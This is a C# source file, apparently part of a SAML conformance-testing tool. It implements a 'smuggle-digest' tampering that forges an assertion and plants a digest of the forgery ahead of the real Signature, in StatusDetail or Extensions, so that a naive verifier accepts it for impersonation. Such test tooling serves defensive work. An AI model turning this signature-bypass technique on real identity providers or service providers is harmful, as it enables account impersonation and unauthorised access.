using System.Xml;
using Conformance.Saml.Forging;
using Conformance.Saml.Signing;

namespace Conformance.Saml.Tamperings.Attacks;

/// <summary>The forged digest ahead of the Signature.</summary>
internal sealed class SmuggleDigest(TamperingArguments arguments) : Tampering
{
    public static CatalogueEntry Entry { get; } = new(
        new TamperingDescription(
            "smuggle-digest",
            "Forges the assertion, which keeps its ID and Signature, and writes its digest ahead of the Signature, where "
            + "a search of the whole document finds it first.",
            "The IdP's SignedInfo verifies; the smuggled digest is that of the forged assertion.",
            [
                new("at", "Where the digest is smuggled in.", ["status-detail", "extensions"]),
                new("what", "The DigestValue alone, or what stands around it.",
                    ["digest-value", "reference", "signed-info", "signature"]),
                Impersonation.Parameter,
            ]),
        arguments => new SmuggleDigest(arguments));

    public override string Name => "smuggle-digest";

    public override void AfterSigning(Workpiece work)
    {
        var forgery = new InPlaceForgery(arguments, work);
        if (forgery.Element == work.Root)
        {
            throw new TamperingException(
                "a digest cannot be smuggled into what it is the digest of: this needs a signed Assertion.");
        }

        var smuggled = Dom.Clone(arguments.Text("what") switch
        {
            "reference" => XmlSigner.Descendant(forgery.Signature, "Reference"),
            "signed-info" => forgery.SignedInfo,
            "signature" => forgery.Signature,
            _ => XmlSigner.Descendant(forgery.Signature, "DigestValue"),
        });
        XmlSigner.SetText(XmlSigner.Descendant(smuggled, "DigestValue"), forgery.Digest());
        Holder(work).AppendChild(smuggled);
        forgery.ClaimPotency();
    }

    private XmlElement Holder(Workpiece work) => arguments.Text("at") switch
    {
        "extensions" => Holders.Extensions(work.Root),
        _ => Holders.StatusDetail(work.Root),
    };
}
